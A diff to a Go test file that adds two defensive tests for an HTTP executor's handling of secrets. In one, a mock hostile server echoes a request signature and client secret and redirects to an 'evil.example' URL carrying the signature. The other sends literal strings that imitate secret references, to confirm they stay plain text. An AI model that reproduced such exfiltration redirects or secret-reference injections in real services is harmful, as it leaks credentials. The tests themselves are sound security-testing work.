@@ -580,3 +580,60 @@ func TestReadableSecrets(t *testing.T) {
 		t.Errorf("fields %v", fields)
 	}
 }
+
+// TestEchoOfASignature: what a signer made, and a secret of the configuration,
+// come back to nobody (U-12, A-14).
+func TestEchoOfASignature(t *testing.T) {
+	var sent string
+	up := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		sent = strings.TrimPrefix(r.Header.Get("X-Signature"), "v1=")
+		w.Header().Set("X-Echo", sent)
+		w.Header().Set("Location", "https://evil.example/?s="+sent)
+		w.WriteHeader(http.StatusBadRequest)
+		io.WriteString(w, `{"error":{"message":"bad `+sent+` `+clientSecret+`"}}`)
+	})
+	r := chat()
+	r.Headers = []abi.NamedValue{{Name: "X-Signature", Parts: append(lit("v1="), signer("body"))}}
+	g := &fakeGuest{answer: func(_ int, c call) []abi.Action {
+		if c.classify != nil {
+			return []abi.Action{fail(abi.Fail{Code: "bad_request"})}
+		}
+		return send(abi.Send{Deliver: abi.DeliverPass, Request: r, OnError: abi.OnErrorClassify})
+	}}
+	a := credential(up.URL)
+	a.Metadata["hmac_key"] = "hmac-key-0123456789"
+	_, err := newExecutor(t, g, cloudManifest(), withConfig).Execute(t.Context(), a, request(), executor.Options{})
+	seen, encoding := json.Marshal(g.calls[1].classify)
+	told := upstreamError(t, err)
+	for name, text := range map[string]string{"guest": string(seen), "guest's body": string(g.calls[1].classify.Response.Body), "client": told.Message + string(told.Body)} {
+		if encoding != nil || sent == "" || strings.Contains(text, sent) || strings.Contains(text, clientSecret) {
+			t.Errorf("the %s sees %s", name, text)
+		}
+	}
+}
+
+// TestReferencesAreNoText: what looks like a reference in a literal stays text,
+// also within an encoding and a form.
+func TestReferencesAreNoText(t *testing.T) {
+	var form url.Values
+	up := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		if err := r.ParseForm(); err != nil {
+			t.Error(err)
+		}
+		form = r.PostForm
+		io.WriteString(w, "{}")
+	})
+	r := chat()
+	r.Headers = nil
+	r.Body = formBody(
+		abi.NamedValue{Name: "a", Parts: lit("{{secret:api_key}} config:client_secret signer:body")},
+		abi.NamedValue{Name: "b", Parts: []abi.Part{{Which: abi.PartIsEncode, Encode: &abi.Encode{Encoding: abi.EncodingBase64, Parts: lit(`{"$secret":"api_key"}`)}}}},
+	)
+	e := newExecutor(t, always(send(abi.Send{Deliver: abi.DeliverPass, Request: r})...), cloudManifest(), withConfig)
+	if _, err := e.Execute(t.Context(), credential(up.URL), request(), executor.Options{}); err != nil {
+		t.Fatal(err)
+	}
+	if form.Get("a") != "{{secret:api_key}} config:client_secret signer:body" || form.Get("b") != base64.StdEncoding.EncodeToString([]byte(`{"$secret":"api_key"}`)) {
+		t.Errorf("form %v", form)
+	}
+}
